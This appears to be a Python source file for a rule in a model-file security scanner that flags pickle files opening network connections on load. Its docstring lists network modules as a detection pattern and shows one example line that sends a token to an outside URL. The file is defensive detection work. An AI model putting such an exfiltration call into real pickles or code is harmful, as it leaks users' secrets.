"""A pickle opens a network connection when it is loaded.

What it finds:
    A call of ``socket``, ``urllib``, ``http``, ``ssl``, ``smtplib``, ``requests``, ``torch.hub``, ``webbrowser`` and their like.

Why it matters:
    It can send out data and secrets, or fetch the code that it runs next.

Example:
    ``urllib.request.urlopen("http://example.org/?" + token)``

Remedy:
    Do not load the file. ``pickle.load`` and ``joblib.load`` are hit in every version; ``torch.load`` with
    ``weights_only=True`` refuses it from PyTorch 2.6 on (CVE-2025-32434), and 2.10 repairs the last known fault of that
    guard (CVE-2026-24747). Get the weights as safetensors from the publisher, or from somebody you trust; report this
    file to where you got it.

What it cannot see:
    Connections that the model's own classes open.

References:
    CWE-918; CWE-502.
"""

from __future__ import annotations

from collections.abc import Iterator

from openvet.checks._check import Context
from openvet.checks.pickle._verdict import DO_NOT_LOAD, NEEDS, dangers
from openvet.core.finding import Finding
from openvet.core.rule import Confidence, Rule, Severity

RULE = Rule(
    id="pickle/opens-network",
    severity=Severity.CRITICAL,
    confidence=Confidence.HIGH,
    since="0.1.0",
    cwe=(918, 502),
    needs=NEEDS,
)


def check(ctx: Context) -> Iterator[Finding]:
    """One finding for each callable with this capability that loading reaches."""
    yield from dangers(ctx, "network", DO_NOT_LOAD)
